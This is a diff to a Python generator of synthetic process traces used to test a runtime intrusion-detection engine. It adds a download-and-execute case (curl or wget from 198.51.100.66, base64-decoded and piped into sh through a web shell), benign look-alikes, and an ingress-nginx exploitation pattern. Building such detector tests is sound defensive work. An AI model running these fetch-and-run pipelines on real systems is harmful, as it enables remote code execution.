@@ -612,6 +612,87 @@ def rules():
     t.write()
 
 
+def rules_piped():
+    t = Trace("rules-piped")
+    t.comment("pipe neighbours: the engine pairs the members of a pipeline by pipe inode (docs/rules.md)")
+    web_server(t)
+    LOG = fd("pipe", 600)
+    t.comment("curl -s http://198.51.100.66/p.b64 | base64 -d | sh, typed into a web shell; members exec in order")
+    t.fork(130, 101)
+    t.exec(130, 101, "/bin/bash", ["bash"], WEB, stdio=[fd("pipe", 700), LOG, LOG])
+    P1, P2 = fd("pipe", 9001), fd("pipe", 9002)
+    for pid in (131, 132, 133):
+        t.fork(pid, 130)
+    t.exec(131, 130, "/usr/bin/curl", ["curl", "-s", "http://198.51.100.66/p.b64"], WEB, stdio=[fd("pipe", 700), P1, LOG])
+    t.exec(132, 130, "/usr/bin/base64", ["base64", "-d"], WEB, stdio=[P1, P2, LOG])
+    t.exit(131)
+    t.exec(133, 130, "/bin/sh", ["sh"], WEB, binary="/usr/bin/dash", stdio=[P2, LOG, LOG])
+    t.exit(132)
+    t.exit(133)
+    t.comment("the same pipeline with the members exec'ing the other way round (sh, base64, wget)")
+    Q1, Q2 = fd("pipe", 9011), fd("pipe", 9012)
+    for pid in (141, 142, 143):
+        t.fork(pid, 130)
+    t.exec(143, 130, "/bin/bash", ["bash"], WEB, stdio=[Q2, LOG, LOG])
+    t.exec(142, 130, "/usr/bin/base64", ["base64", "--decode"], WEB, stdio=[Q1, Q2, LOG])
+    t.exec(141, 130, "/usr/bin/wget", ["wget", "-qO-", "http://198.51.100.66/q.b64"], WEB, stdio=[fd("pipe", 700), Q1, LOG])
+    for pid in (141, 142, 143):
+        t.exit(pid)
+    t.comment("look-alikes that stay quiet: curl | jq, cat cert.b64 | base64 -d | tee, curl | base64 (encoding),")
+    t.comment("base64 -d | python3 -c (stdin is data), and nc | while read (a subshell that never exec'd)")
+    t.exec(400, 1, "/usr/bin/catatonit", ["catatonit", "--", "/entrypoint.sh"], WORKER)
+    t.fork(401, 400)
+    t.exec(401, 400, "/bin/bash", ["bash"], WORKER)
+    R = [fd("pipe", 9100 + i) for i in range(8)]
+    for pid in range(402, 413):
+        t.fork(pid, 401)
+    t.exec(402, 401, "/usr/bin/curl", ["curl", "-s", "http://169.254.169.254/token"], WORKER, stdio=[DEVNULL, R[0], DEVNULL])
+    t.exec(403, 401, "/usr/bin/jq", ["jq", ".token"], WORKER, stdio=[R[0], DEVNULL, DEVNULL])
+    t.exec(404, 401, "/usr/bin/cat", ["cat", "/run/secrets/cert.b64"], WORKER, stdio=[DEVNULL, R[1], DEVNULL])
+    t.exec(405, 401, "/usr/bin/base64", ["base64", "-d"], WORKER, stdio=[R[1], R[2], DEVNULL])
+    t.exec(406, 401, "/usr/bin/tee", ["tee", "/tmp/cert.pem"], WORKER, stdio=[R[2], DEVNULL, DEVNULL])
+    t.exec(407, 401, "/usr/bin/curl", ["curl", "-s", "https://example.com/logo.png"], WORKER, stdio=[DEVNULL, R[3], DEVNULL])
+    t.exec(408, 401, "/usr/bin/base64", ["base64", "-w0"], WORKER, stdio=[R[3], DEVNULL, DEVNULL])
+    t.exec(409, 401, "/usr/bin/base64", ["base64", "-d", "/app/user.b64"], WORKER, stdio=[DEVNULL, R[4], DEVNULL])
+    t.exec(410, 401, "/usr/local/bin/python3", ["python3", "-c", "import json,sys; print(json.load(sys.stdin)['user'])"],
+           WORKER, binary="/usr/local/bin/python3.11", stdio=[R[4], DEVNULL, DEVNULL])
+    t.dup(411, 0, R[5])
+    t.exec(412, 401, "/usr/bin/nc", ["nc", "127.0.0.1", "9000"], WORKER, stdio=[DEVNULL, R[5], DEVNULL])
+    t.write()
+
+
+def rules_wait():
+    t = Trace("rules-wait")
+    t.comment("on_missing_metadata = \"wait\" (INGRESS_NIGHTMARE_VULNERABILITY_EXPLOITATION, turned on in rules-wait.toml):")
+    t.comment("an exec whose container metadata is missing is held until a later exec of that container brings it")
+    NOTE = {"note": "metadata unavailable: timed out after 200 ms"}
+    ING = {"id": "1" * 64, "meta": NOTE}
+    ING_KNOWN = {"id": "1" * 64, "meta": {"name": "controller", "image": "registry.k8s.io/ingress-nginx/controller:v1.11.4"}}
+    APP = {"id": "2" * 64, "meta": NOTE}
+    APP_KNOWN = {"id": "2" * 64, "meta": {"name": "web", "image": "docker.io/library/nginx:1.27"}}
+    ING2 = {"id": "3" * 64, "meta": NOTE}
+    t.comment("1. the ingress controller's nginx -t on a /proc fd, metadata missing: held; the controller image arrives: fires")
+    t.exec(500, 1, "/usr/bin/dumb-init", ["dumb-init", "--", "/start.sh"], ING)
+    t.fork(501, 500)
+    t.exec(501, 500, "/usr/bin/nginx", ["nginx", "-c", "/proc/57/fd/11", "-t"], ING)
+    t.exit(501)
+    t.fork(502, 500)
+    t.exec(502, 500, "/usr/bin/env", ["env"], ING_KNOWN)
+    t.comment("2. the same command line in a plain nginx container: held; its image arrives: quiet")
+    t.exec(600, 1, "/usr/bin/dumb-init", ["dumb-init", "--", "/start.sh"], APP)
+    t.fork(601, 600)
+    t.exec(601, 600, "/usr/bin/nginx", ["nginx", "-c", "/proc/1/fd/3", "-t"], APP)
+    t.fork(602, 600)
+    t.exec(602, 600, "/usr/bin/env", ["env"], APP_KNOWN)
+    t.comment("3. metadata that never comes: alerts once metadata_wait (2 s) has passed (event time)")
+    t.exec(700, 1, "/usr/bin/dumb-init", ["dumb-init", "--", "/start.sh"], ING2)
+    t.fork(701, 700)
+    t.exec(701, 700, "/usr/bin/nginx", ["nginx", "-t", "-c", "/proc/9/fd/4"], ING2)
+    t.tick(3000)
+    t.exec(800, 1, "/usr/bin/true", ["true"])
+    t.write()
+
+
 def malformed():
     t = Trace("malformed-lines")
     t.comment("bad lines are reported with line number and field, skipped, and the rest still detected")
@@ -629,5 +710,5 @@ def malformed():
 
 if __name__ == "__main__":
     for f in (rce_bash_dev_tcp, rce_nc_e, rce_busybox_nc_e, rce_python, rce_perl, rce_socat, rce_mkfifo,
-              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, rules, malformed):
+              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, rules, rules_piped, rules_wait, malformed):
         f()
